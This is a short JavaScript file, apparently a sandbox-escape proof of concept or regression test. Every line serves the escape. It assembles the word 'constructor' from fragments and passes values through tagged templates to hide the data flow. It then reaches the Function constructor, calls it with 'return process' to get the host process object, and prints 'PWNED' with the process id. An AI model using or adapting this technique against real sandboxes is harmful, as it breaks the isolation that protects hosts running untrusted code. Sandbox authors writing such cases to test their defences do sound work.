'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const keep = [];
keep.push`${1}`;
const tag = (...a) => a;
const o = Date.now() > 1 ? tag`${t}`[1] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
